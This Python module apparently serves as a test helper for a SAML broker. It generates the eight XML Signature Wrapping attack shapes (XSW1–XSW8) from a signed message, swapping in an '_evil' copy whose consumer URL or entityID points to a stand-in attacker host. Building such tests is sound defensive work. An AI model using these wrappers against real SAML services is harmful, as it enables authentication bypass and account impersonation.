"""Eight ways to wrap a signed message so that one part is verified and another is read (XML Signature Wrapping).

The shapes are those of Somorovsky et al., "On Breaking SAML" (USENIX Security 2012), applied to messages that services send us.
"""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from ugyfelkapu.broker.saml.xml.names import DS

Wrap = Callable[[etree._Element], bytes]

OBJECT = DS + "Object"
EVIL_ID = "_evil"


def _parts(signed: etree._Element) -> tuple[etree._Element, etree._Element, etree._Element]:
    """The whole, a copy of it without a signature, and the signature taken out."""
    signature = signed.find(DS + "Signature")
    assert signature is not None
    evil = deepcopy(signed)
    taken = evil.find(DS + "Signature")
    assert taken is not None
    evil.remove(taken)
    evil.set("ID", EVIL_ID)
    for name in ("AssertionConsumerServiceURL", "entityID"):
        if evil.get(name) is not None:
            evil.set(name, "https://evil.example.test/")
    return signed, evil, signature


def _octets(root: etree._Element) -> bytes:
    return etree.tostring(root)


def _1(signed: etree._Element) -> bytes:
    """The evil message is the root and carries the signature, in which the signed one lies."""
    signed, evil, signature = _parts(signed)
    signed.remove(signature)
    signature.append(signed)
    evil.insert(1, signature)
    return _octets(evil)


def _2(signed: etree._Element) -> bytes:
    """As 1, but the signed one lies beside the signature."""
    signed, evil, signature = _parts(signed)
    signed.remove(signature)
    evil.insert(1, signature)
    evil.append(signed)
    return _octets(evil)


def _3(signed: etree._Element) -> bytes:
    """The signed message, signature and all, lies in the evil one."""
    signed, evil, _ = _parts(signed)
    evil.append(signed)
    return _octets(evil)


def _4(signed: etree._Element) -> bytes:
    """The evil message lies in the signed one's place, and holds it."""
    signed, evil, _ = _parts(signed)
    evil.insert(0, signed)
    return _octets(evil)


def _5(signed: etree._Element) -> bytes:
    """The evil message has the signature; the signed one lies at its end under the old name."""
    signed, evil, signature = _parts(signed)
    signed.remove(signature)
    evil.insert(1, signature)
    evil.insert(2, signed)
    return _octets(evil)


def _6(signed: etree._Element) -> bytes:
    """As 5, with the signed one below the signature's `KeyInfo`."""
    signed, evil, signature = _parts(signed)
    signed.remove(signature)
    key_info = signature.find(DS + "KeyInfo")
    assert key_info is not None
    key_info.append(signed)
    evil.insert(1, signature)
    return _octets(evil)


def _7(signed: etree._Element) -> bytes:
    """The signed message hides in `Extensions`, where schemas let anything pass."""
    signed, evil, _ = _parts(signed)
    extensions = etree.SubElement(evil, "{urn:oasis:names:tc:SAML:2.0:protocol}Extensions")
    extensions.append(signed)
    return _octets(evil)


def _8(signed: etree._Element) -> bytes:
    """The signed message hides in an `Object` of the signature."""
    signed, evil, signature = _parts(signed)
    signed.remove(signature)
    etree.SubElement(signature, OBJECT).append(signed)
    evil.insert(1, signature)
    return _octets(evil)


WRAPS: dict[str, Wrap] = {f"XSW{number}": wrap for number, wrap in enumerate((_1, _2, _3, _4, _5, _6, _7, _8), start=1)}
